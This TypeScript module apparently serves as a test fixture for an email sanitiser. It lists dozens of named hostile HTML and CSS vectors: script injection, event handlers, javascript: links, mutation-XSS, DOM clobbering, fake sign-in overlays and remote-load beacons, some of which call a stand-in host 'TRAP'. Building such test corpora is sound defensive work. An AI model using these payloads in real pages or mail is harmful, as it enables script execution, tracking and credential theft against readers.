/** What a hostile mail tries, by name. `TRAP` is the address of a server that nothing may reach. */
export type Vectors = Readonly<Record<string, string>>;

const script: Vectors = {
  'script tag': '<script>top.pwned=1;fetch("TRAP/script")</script>',
  'script from elsewhere': '<script src="TRAP/s.js"></script>',
  'script in capitals and a line break': '<ScRiPt\n>top.pwned=1</sCrIpT >',
  'module script': '<script type="module">top.pwned=1;import("TRAP/m.js")</script>',
  'split script': '<scr<script>ipt>top.pwned=1</scr</script>ipt>',
  'script in a comment that ends early': '<!--><script>top.pwned=1</script>-->',
  'script after a title': '<title></title><script>top.pwned=1</script>',
  'script in noscript': '<noscript><p title="</noscript><script>top.pwned=1</script>"></noscript>',
  'script in a textarea': '<textarea></textarea><script>top.pwned=1</script>',
  'script in a style': '<style></style><script>top.pwned=1</script></style>',
  'script in xmp': '<xmp><p title="</xmp><script>top.pwned=1</script>"></xmp>',
  'script in a template': '<template><script>top.pwned=1</script></template>',
};

const handlers: Vectors = {
  'image error': '<img src=x onerror="top.pwned=1;fetch(\'TRAP/onerror\')">',
  'image error without quotes': '<img/src=x/onerror=top.pwned=1>',
  'image error after a slash': '<img src="x"/onerror="top.pwned=1">',
  'image load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="top.pwned=1">',
  'body load': '<body onload="top.pwned=1">',
  'details toggle': '<details open ontoggle="top.pwned=1"><summary>x</summary>y</details>',
  'animation start':
    '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="top.pwned=1">x</b>',
  autofocus: '<input autofocus onfocus="top.pwned=1">',
  'marquee start': '<marquee onstart="top.pwned=1">x</marquee>',
  'video error': '<video><source onerror="top.pwned=1"></video>',
  'pointer over everything':
    '<div onpointerover="top.pwned=1" onmouseover="top.pwned=1" style="position:fixed;inset:0">x</div>',
  'click on everything': '<div onclick="top.pwned=1" style="position:fixed;inset:0;z-index:9999">x</div>',
};

const addresses: Vectors = {
  'javascript link': '<a id="bait" href="javascript:top.pwned=1">track</a>',
  'javascript link with a tab': '<a href="java\tscript:top.pwned=1">track</a>',
  'javascript link in entities': '<a href="&#106;avascript&colon;top.pwned=1">track</a>',
  'data page link': '<a href="data:text/html,<script>top.pwned=1</script>">track</a>',
  'vbscript link': '<a href="vbscript:top.pwned=1">track</a>',
  'javascript image': '<img src="javascript:top.pwned=1">',
  'link to the top window': '<a href="TRAP/top" target="_top">track</a>',
  'ping of a link': '<a href="https://www.amazon.de/" ping="TRAP/ping">track</a>',
  'area link': '<map name=m><area shape=default href="javascript:top.pwned=1"></map><img usemap="#m" src=x>',
  refresh: '<meta http-equiv="refresh" content="0;url=TRAP/refresh">',
  'refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">',
  base: '<base href="TRAP/base/"><img src="pixel.gif"><a href="x">x</a>',
  'policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri TRAP/csp">',
};

const markup: Vectors = {
  'svg load': '<svg onload="top.pwned=1"></svg>',
  'svg script': '<svg><script>top.pwned=1</script></svg>',
  'svg use': '<svg><use href="TRAP/u.svg#x"></use></svg>',
  'svg image': '<svg><image href="TRAP/svg.png"/></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe src="javascript:top.pwned=1"></iframe></foreignObject></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values=javascript:top.pwned=1 /><text y=20>x</text></a></svg>',
  'svg set': '<svg><set attributeName="onmouseover" to="top.pwned=1"></set></svg>',
  'math link': '<math><mi xlink:href="javascript:top.pwned=1">x</mi></math>',
  'mutation through math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  'mutation through svg': '<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">',
  'form that sends itself':
    '<form action="TRAP/form" method=post><input name=a value=b><button autofocus>ok</button></form>',
  'button for another form':
    '<form id=f></form><button form=f formaction="javascript:top.pwned=1">ok</button>',
  'isindex of old': '<isindex type=image src=1 onerror=top.pwned=1>',
  frame: '<iframe src="TRAP/frame"></iframe>',
  'frame with a page inside': '<iframe srcdoc="<script>top.pwned=1;parent.parent.pwned=1</script>"></iframe>',
  frameset: '<frameset><frame src="TRAP/frameset"></frameset>',
  object: '<object data="TRAP/object.html" type="text/html"></object>',
  embed: '<embed src="TRAP/embed.svg" type="image/svg+xml">',
  applet: '<applet code="x" archive="TRAP/a.jar"></applet>',
  'names that shadow':
    '<form id="cookie"><img name="getElementById"><input id="location" name="domain"></form>',
  'ids of the desk': '<div id="thread">x</div><div id="inbox-list">y</div><a name="root" id="root">z</a>',
  'shadow root': '<div><template shadowrootmode="open"><script>top.pwned=1</script></template></div>',
  dialog: '<dialog open>Sign in again <input type=password></dialog>',
  popover: '<button popovertarget=p autofocus>x</button><div popover id=p>y</div>',
};

const remote: Vectors = {
  image: '<img src="TRAP/pixel.gif" width=1 height=1>',
  'image set': '<img srcset="TRAP/1x.png 1x, TRAP/2x.png 2x">',
  picture: '<picture><source srcset="TRAP/p.webp"><img src="TRAP/p.png"></picture>',
  'image without a scheme': '<img src="//HOST/schemeless.png">',
  'background of a table':
    '<table background="TRAP/bg.png"><tr><td background="TRAP/td.png">x</td></tr></table>',
  'video poster': '<video poster="TRAP/poster.png" src="TRAP/v.mp4" autoplay></video>',
  audio: '<audio src="TRAP/a.mp3" autoplay></audio>',
  track: '<video><track src="TRAP/t.vtt" default></video>',
  'input image': '<input type="image" src="TRAP/i.png">',
  'style sheet': '<link rel="stylesheet" href="TRAP/s.css">',
  prefetch: '<link rel="prefetch" href="TRAP/prefetch"><link rel="preload" as="image" href="TRAP/preload">',
  'name look-up': '<link rel="dns-prefetch" href="TRAP"><link rel="preconnect" href="TRAP">',
  prerender: '<link rel="prerender" href="TRAP/prerender"><link rel="modulepreload" href="TRAP/mp.js">',
  'speculation rules': '<script type="speculationrules">{"prerender":[{"urls":["TRAP/spec"]}]}</script>',
  'icon and manifest': '<link rel="icon" href="TRAP/i.ico"><link rel="manifest" href="TRAP/m.json">',
};

const styles: Vectors = {
  background: '<p style="background:url(TRAP/style.png)">x</p>',
  'background with an escape': '<p style="background:u\\72l(TRAP/escaped.png)">x</p>',
  import: '<style>@import "TRAP/import.css";</style>',
  'import in capitals': '<style>@IMPORT url(TRAP/import2.css);</style>',
  font: '<style>@font-face{font-family:x;src:url(TRAP/f.woff)}*{font-family:x}</style>',
  'list picture': '<ul style="list-style-image:url(TRAP/list.png)"><li>x</li></ul>',
  'content of before': '<style>p::before{content:url(TRAP/before.png)}</style><p>x</p>',
  cursor: '<style>*{cursor:url(TRAP/c.cur),auto}</style>',
  'image set of a style': '<p style="background-image:image-set(\'TRAP/is.png\' 1x)">x</p>',
  variable: '<style>:root{--u:url(TRAP/var.png)}p{background:var(--u)}</style><p>x</p>',
  'attribute that is read out':
    '<style>input[value^="a"]{background:url(TRAP/leak-a)}</style><input value="abc">',
  filter: '<p style="filter:url(TRAP/filter.svg#f)">x</p>',
  'mask and border': '<p style="mask:url(TRAP/m.svg);border-image:url(TRAP/b.png)">x</p>',
  'expression of old': '<p style="width:expression(top.pwned=1)">x</p>',
  'binding of old': '<p style="-moz-binding:url(TRAP/x.xml#b);behavior:url(TRAP/x.htc)">x</p>',
  'cover over everything':
    '<div style="position:fixed;top:-5000px;left:-5000px;width:20000px;height:20000px;z-index:2147483647;background:red">Sign in</div>',
  'out of the frame': '<div style="position:absolute;margin-left:-900px;width:3000px">x</div>',
};

/** Every vector, told apart by group and name. */
export const vectors: Vectors = Object.fromEntries(
  Object.entries({ script, handlers, addresses, markup, remote, styles }).flatMap(([group, list]) =>
    Object.entries(list).map(([name, html]) => [`${group}: ${name}`, html]),
  ),
);
